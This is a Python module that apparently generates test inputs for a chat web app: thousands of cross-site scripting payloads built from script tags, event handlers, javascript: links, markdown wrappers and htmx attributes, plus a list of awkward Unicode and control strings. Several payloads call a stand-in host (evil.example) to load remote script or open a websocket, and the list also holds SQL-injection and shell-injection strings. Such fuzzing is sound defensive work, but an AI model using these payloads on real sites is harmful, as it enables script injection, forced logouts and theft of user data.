"""What somebody writes who wants others' browsers to run it; and words that are hard to show."""

from collections.abc import Iterator
from itertools import chain, islice, product

CODES = [
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "&#97;lert(1)",
    "fetch('//evil.example/')",
    "import('//evil.example/x.js')",
    "document.title='x'",
]
TAGS = [
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x"),
    *("object data=x", "embed src=x", "math", "marquee", "select autofocus", "textarea autofocus", "button", "form"),
    *("style", "link rel=stylesheet href=//evil.example/x.css", "p", "a href=x", "dialog open", "x", "template"),
]
HANDLERS = [
    *("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerover", "onbegin"),
    *("oncontentvisibilityautostatechange", "onbeforematch", "onscrollsnapchange"),
]
ENDS = ["", '"', "'", "-->", "</title>", "</textarea>", "</script>", "</template>", "</article>", "`", "]]>", "\x0c"]
SCRIPTS = [
    "<script>{}</script>",
    "<script src=//evil.example/x.js></script>{}",
    "<SCRIPT/x>{}</SCRIPT >",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>{}",
    "<form action=javascript:{}><input type=submit autofocus></form>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "{{{{{}}}}}",
    "${{{}}}",
]
LINKS = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    "&#106;avascript:{}",
    "javascript&colon;{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//evil.example/?{}",
    'http://x/"onmouseover="{}',
    "http://x/'><img src=x onerror={}>",
]
MARKDOWN = ["[a]({})", "<{}>", "![a]({})", "[a]: {}\n[a]", "{}", "`{}`", '[a](http://x "{}")', "> {}", "- {}"]
OURS = [
    '<hx-partial hx-target="#live" hx-swap="innerHTML">{}</hx-partial>',
    '<p id="live-state" hx-swap-oob="outerHTML">{}</p>',
    '<p hx-get="/accounts/logout/" hx-trigger="load">{}</p>',
    '<p data-hx-post="/accounts/logout/" data-hx-trigger="load">{}</p>',
    '<p hx-on:click="{}" hx-ws:send hx-vals="js:{{a:{}}}">x</p>',
    '<main hx-ws:connect="//evil.example/">{}</main>',
    '<input name="position" value="chat.room.1:1:x" id="position-chat-room-1">{}',
    "<title>{}</title>",
]


def payloads(number: int, longest: int = 4_000) -> list[str]:
    """So many different ones, of every kind; none has more than `longest` characters."""
    kinds = [_scripts(), _handlers(), _links(), _ours()]
    fitting = (text for text in _in_turn(kinds) if len(text) <= longest)
    return list(islice(dict.fromkeys(fitting), number))


def _scripts() -> Iterator[str]:
    return (end + script.replace("{}", code) for code, end, script in product(CODES, ENDS, SCRIPTS))


def _handlers() -> Iterator[str]:
    for code, handler, tag, end in product(CODES, HANDLERS, TAGS, ENDS):
        yield f"{end}><{tag} {handler}={code}>"
        yield f"{end} {handler}={code} autofocus x={end}"


def _links() -> Iterator[str]:
    return (form.replace("{}", link.replace("{}", code)) for code, link, form in product(CODES, LINKS, MARKDOWN))


def _ours() -> Iterator[str]:
    return (end + ours.replace("{}", code) for code, end, ours in product(CODES, ENDS, OURS))


def _in_turn(kinds: list[Iterator[str]]) -> Iterator[str]:
    """One of each kind after the other, as long as there is one."""
    nothing = object()
    while kinds:
        turn = [(kind, next(kind, nothing)) for kind in kinds]
        kinds = [kind for kind, text in turn if text is not nothing]
        yield from (text for _, text in turn if text is not nothing)


NAUGHTY = {
    "empty to the eye": ["\u200b", "\u2060\u2060", "\ufeff", "\u00a0", "\u3164"],
    "words of programs": ["undefined", "null", "NaN", "None", "true", "\\", "\\\\", "1/0", "0x0", "1e999", "-"],
    "queries": ["1;DROP TABLE chat_message", "' OR 1=1 --", "%s %(x)s {x} {{ x }} {% x %}", "$(touch x)", "`ls`"],
    "scripts": [
        "田中さんにあげて下さい",
        "사회과학원",
        "ЁЂЃЄЅІЇ",
        "الكل في المجمو عة (5)",
        "בְּרֵאשִׁית",
        "ܐܪܡܝܐ",
        "ไม่เป็นไร",
        "नमस्ते",
    ],
    "right to left": ["\u202eevil\u202c good", "\u2066 \u2067 \u202b \u202d", "test \u2060test\u202b", "‏شكرا‏ a ‏b"],
    "zalgo": ["Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ", "Z" + "\u0316\u0317\u0318\u0319\u031c" * 100],
    "pictures": ["👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇦🇶", "🦆" * 500, "(ノಥ益ಥ）ノ﻿ ┻━┻", "☺︎☺️"],
    "controls": ["\x01\x02\x03\x7f", "a\tb\x0bc\x0cd", "\x85\u2028\u2029", "\x1b[31mred\x1b[0m"],
    "long": [
        "W" * 4_000,
        "i" * 4_000,
        "http://x/" + "y" * 3_900,
        "a " * 2_000,
        "👩‍👩‍👧‍👦" * 360,
        "­".join("soft" * 400),
    ],
    "much markup": [
        "> " * 200 + "deep",
        "- " * 100 + "deep",
        "*" * 3_999,
        "[" * 3_999,
        "```\n" + "x" * 3_900,
        "1. " * 300,
    ],
    "not characters": ["\ufffe\uffff", "\U0010ffff", "\ufdd0", "�"],
}


def naughty() -> list[str]:
    return list(chain.from_iterable(NAUGHTY.values()))
